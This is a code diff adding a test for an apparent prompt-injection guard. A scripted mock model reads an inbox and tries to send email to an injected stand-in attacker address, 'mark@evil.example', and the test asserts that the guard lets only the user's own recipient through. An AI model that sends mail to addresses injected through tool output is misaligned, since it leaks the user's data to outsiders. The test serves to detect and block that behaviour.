@@ -64,3 +64,47 @@ test('a Turn keeps its prompt and records outputs through record()', () => {
   assert.deepEqual([bad.allow, bad.kind], [false, 'provenance']);
   assert.throws(() => new Turn(policy, {}, { prompt: 42 }), TypeError);
 });
+
+// The AI SDK adapter records each tool's output: the model reads an injected address and
+// tries to mail it, and only the user's own recipient goes out.
+test('the AI SDK adapter records outputs, so blocks tainted refuses the injected recipient', async () => {
+  const { generateText, tool, stepCountIs } = require('ai');
+  const { MockLanguageModelV3 } = require('ai/test');
+  const { z } = require('zod');
+  const { guardTools } = require('../adapters/ai-sdk.js');
+  const usage = {
+    inputTokens: { total: 1, noCache: 1, cacheRead: undefined, cacheWrite: undefined },
+    outputTokens: { total: 1, text: 1, reasoning: undefined },
+  };
+  const script = [
+    [['read_inbox', {}]],
+    [['send_email', { to: 'boss@ours.example' }], ['send_email', { to: 'mark@evil.example' }]],
+    'done',
+  ];
+  let step = 0;
+  const model = new MockLanguageModelV3({
+    doGenerate: async () => {
+      const action = script[step++] ?? 'done';
+      return typeof action === 'string'
+        ? { content: [{ type: 'text', text: action }], finishReason: { unified: 'stop', raw: undefined }, usage, warnings: [] }
+        : {
+            content: action.map(([t, a], i) => ({ type: 'tool-call', toolCallId: `${t}-${step}-${i}`, toolName: t, input: JSON.stringify(a) })),
+            finishReason: { unified: 'tool-calls', raw: undefined },
+            usage,
+            warnings: [],
+          };
+    },
+  });
+  const sent = [];
+  const tools = {
+    read_inbox: tool({ description: 'inbox', inputSchema: z.object({}).passthrough(), execute: async () => INBOX }),
+    send_email: tool({
+      description: 'send',
+      inputSchema: z.object({ to: z.string() }),
+      execute: async ({ to }) => { sent.push(to); return 'sent'; },
+    }),
+  };
+  const turn = new Turn(policy, { stage: 'main' }, { prompt: 'Reply to the newest mail, cc boss@ours.example' });
+  await generateText({ model, tools: guardTools(turn, tools), prompt: 'go', stopWhen: stepCountIs(5) });
+  assert.deepEqual(sent, ['boss@ours.example']);
+});
